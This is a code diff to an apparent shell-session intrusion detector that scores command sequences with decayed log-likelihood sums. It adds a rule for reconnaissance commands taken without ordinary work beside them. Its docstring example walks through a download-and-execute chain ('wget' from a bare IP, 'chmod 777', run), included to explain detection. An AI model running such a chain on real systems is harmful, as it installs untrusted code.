@@ -2,19 +2,22 @@
 
 A single harmless command proves little and is typed all day. What tells a story is that DIFFERENT facts of it come
 together: what the machine is, who is on it, a file fetched from a bare address, made executable, run. So every fact
-counts once while it is remembered, and the sum is a naive Bayes over facts with two guards against long ordinary work:
+counts once while it is remembered, and the sum is a naive Bayes over facts with guards against long ordinary work:
 
 ```
  facts 0 .. 11   looks   looking around: capped together, and worn down by every ordinary command (Page 1954)
  facts 12 .. 30  acts    doing something: each counts, worn down slowly
  beyond a fact   excess  what the command itself says beyond its facts (a scan of 254 hosts, not of 12)
  of some facts   chain   facts that are more together than one by one: a file brought in, made executable, run
+ of two looks    alone   two looks that explorers do not take, and no ordinary work beside them
 ```
 
-             uname   w   free   ls   cd   wget http://203.0.113.5/x   chmod 777 x   ./x
-     looks    0.7   2.7   3.2  3.0  2.7         2.7                       2.7       2.7
-     acts      -     -     -    -    -          2.8                       3.5       4.1
-     chain     -     -     -    -    -           -                         -        2.4
+             uname -a   w   history   ls   cd   wget http://203.0.113.5/x   chmod 777 x   ./x
+     looks      0.4    3.2    5.2    4.9  4.6         4.6                       4.6       4.6
+     alone       -      -     4.0    3.0  2.0         2.0                       2.0       2.0  (7 with looks)
+     acts        -      -      -      -    -          1.6                       2.0       2.3
+     excess      -      -      -      -    -          1.8                       2.7       3.0
+     chain       -      -      -      -    -           -                        1.6       3.2
 
 Page, E. S. (1954), Continuous inspection schemes, Biometrika 41: a sum of log-likelihood ratios that is held at zero.
 """
@@ -45,8 +48,9 @@ STATE: Final = np.dtype(
         ("chain", "f8"),
         ("now", "u4"),  # facts seen since `turned`, one bit each
         ("before", "u4"),  # facts seen in the span before
-        ("form", "f4"),  # nats by which the strongest form of a look went beyond its fact
-        ("work", "u2"),  # ordinary commands since `turned`
+        ("top", "u2"),  # 1/1000 nat, the weightiest command that only looked
+        ("next", "u2"),  # and the next, of other facts
+        ("work", "u1"),  # ordinary commands since `turned`
         ("started", "u1"),
     ]
 )
@@ -79,9 +83,10 @@ class FactSettings(msgspec.Struct, frozen=True):
     looks_wear: Annotated[float, Meta(description="nats that an ordinary command takes from looks", ge=0)] = 0.2
     looks_alone: Annotated[
         float,
-        Meta(description="share by which looks of two kinds or more say more where no ordinary work is beside", ge=0),
+        Meta(description="nats more for each nat by which two looks exceed `looks_light`, no work being beside", ge=0),
     ] = 0.0
-    work: Annotated[int, Meta(description="ordinary commands from which looks are no longer alone", ge=1)] = 6
+    looks_light: Annotated[float, Meta(description="nats of a look that explorers show as well", ge=0)] = 0.0
+    work: Annotated[int, Meta(description="ordinary commands from which looks are no longer alone", ge=1, le=100)] = 6
     acts_wear: Annotated[float, Meta(description="nats that an ordinary command takes from acts", ge=0)] = 0.02
     chain_first: Annotated[int, Meta(description="bits of the facts that may begin a chain (a file is brought in)")] = 0
     chain_weak: Annotated[int, Meta(description="bits of facts that may begin a chain and count half")] = 0
@@ -122,6 +127,7 @@ def step(
     looks_cap = settings[0]["looks_cap"]
     looks_wear = settings[0]["looks_wear"]
     alone = settings[0]["looks_alone"]
+    light = settings[0]["looks_light"]
     enough = settings[0]["work"]
     acts_wear = settings[0]["acts_wear"]
     first = settings[0]["chain_first"]
@@ -142,7 +148,8 @@ def step(
             state[a]["acts"] *= fade
             state[a]["excess"] *= fade
             state[a]["chain"] *= fade
-            state[a]["form"] *= fade
+            state[a]["top"] = round(state[a]["top"] * fade)
+            state[a]["next"] = round(state[a]["next"] * fade)
         since = ts[i] - state[a]["turned"]
         if since > memory:
             state[a]["before"] = state[a]["now"] if since <= 2.0 * memory else 0
@@ -171,12 +178,13 @@ def step(
         state[a]["acts"] = min(acts, cap)
         beyond = weight[i] - known
         if facts >> LOOKS == 0:
-            form = np.float64(state[a]["form"])
+            top = state[a]["top"] / 1000.0
             if facts & ~seen:
                 looks += max(0.0, beyond)
-            elif beyond > form:
-                looks += beyond - form
-            state[a]["form"] = max(form, beyond)
+                state[a]["next"] = round(1000.0 * min(top, max(weight[i], state[a]["next"] / 1000.0)))
+            elif weight[i] > top:
+                looks += weight[i] - top
+            state[a]["top"] = round(1000.0 * max(top, min(weight[i], 60.0)))
         elif facts & ~seen:
             state[a]["excess"] = min(cap, state[a]["excess"] + max(0.0, beyond))
         else:
@@ -191,11 +199,11 @@ def step(
             if not seen & first:
                 more *= 0.5
             state[a]["chain"] = max(state[a]["chain"], more)
-        looked = seen & ((1 << LOOKS) - 1)
-        share = 1.0
-        if looked & (looked - 1):  # two bits or more
-            share += alone * (enough - state[a]["work"]) / enough
-        total = min(looks_cap, state[a]["looks"] * share) + state[a]["acts"] + state[a]["excess"] + state[a]["chain"]
+        looks = state[a]["looks"]
+        beside = min(looks, state[a]["next"] / 1000.0) - light
+        if beside > 0.0:
+            looks += alone * beside * (enough - state[a]["work"]) / enough
+        total = min(looks_cap, looks) + state[a]["acts"] + state[a]["excess"] + state[a]["chain"]
         strength[i] = min(cap, max(total, weight[i]))
         why[i]["own"] = weight[i]
         why[i]["sum"] = strength[i]
